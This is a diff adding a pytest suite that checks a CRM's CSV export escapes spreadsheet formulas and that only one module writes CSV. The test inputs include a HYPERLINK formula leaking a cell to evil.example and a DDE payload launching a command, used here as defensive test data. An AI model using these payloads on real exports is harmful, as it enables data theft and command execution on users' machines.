@@ -1,0 +1,59 @@
+"""CSV injection: every cell a spreadsheet would run as a formula is written as text, and the
+suite writes CSV in one place only."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import pytest
+from crm_shared.spreadsheet_cells import encode_csv, neutralise, restore
+
+REPO = Path(__file__).resolve().parents[3]
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"Open")'
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [HYPERLINK, "+8613912345678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"],
+)
+def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text(cell):
+    (row,) = csv.reader(io.StringIO(encode_csv([[cell]]).decode(), newline=""))
+    assert row == ["'" + cell]
+    assert restore(row[0]) == cell
+
+
+@pytest.mark.parametrize("cell", ["韩梅梅", "", "a=b", "1+1", "'quoted", "'plain", " =x"])
+def test_other_cells_are_left_alone(cell):
+    assert neutralise(cell) == cell
+    assert restore(cell) == cell
+
+
+def test_the_text_mark_is_taken_off_exactly_once():
+    assert restore(neutralise("'=1")) == "'=1"  # a value that itself looks marked stays itself
+    assert restore(neutralise(neutralise("=1"))) == "'=1"
+
+
+def test_rows_keep_their_shape():
+    data = encode_csv([["display_name", "needs"], [HYPERLINK, 'say "hi", then =go']])
+    assert data.endswith(b"\r\n")
+    assert list(csv.reader(io.StringIO(data.decode(), newline=""))) == [
+        ["display_name", "needs"],
+        ["'" + HYPERLINK, 'say "hi", then =go'],
+    ]
+
+
+def test_no_other_code_writes_csv():
+    """A second writer would bypass the rule: every CSV goes through ``encode_csv``."""
+    writers = re.compile(r"csv\.(writer|DictWriter)\(")
+    roots = [REPO / "shared" / "crm_shared", REPO / "gateway" / "gateway", REPO / "console"]
+    roots += sorted((REPO / "services").glob("*/*_service"))
+    found = [
+        str(path.relative_to(REPO))
+        for root in roots
+        for path in root.rglob("*.py")
+        if writers.search(path.read_text(encoding="utf-8"))
+    ]
+    assert found == ["shared/crm_shared/spreadsheet_cells.py"]
